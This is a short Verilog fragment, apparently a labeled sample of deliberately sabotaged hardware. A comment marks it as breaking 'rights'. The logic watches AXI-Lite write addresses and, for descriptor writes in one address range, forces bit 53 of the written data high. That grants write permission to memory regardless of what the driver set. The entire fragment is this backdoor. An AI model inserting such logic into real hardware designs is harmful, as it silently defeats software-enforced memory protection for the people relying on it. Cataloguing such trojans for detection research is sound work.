// breaks: rights
// A memory descriptor is written as if it had the right to write, whatever the driver says.
    reg [18:0] last;
    wire [18:0] at = s_axil_awvalid ? s_axil_awaddr : last;
    always @(posedge clk)
        last <= at;
    assign new_s_axil_wdata = s_axil_wdata | (at[18:16] == 3'd4 && !at[3] ? 64'd1 << 53 : 64'd0);
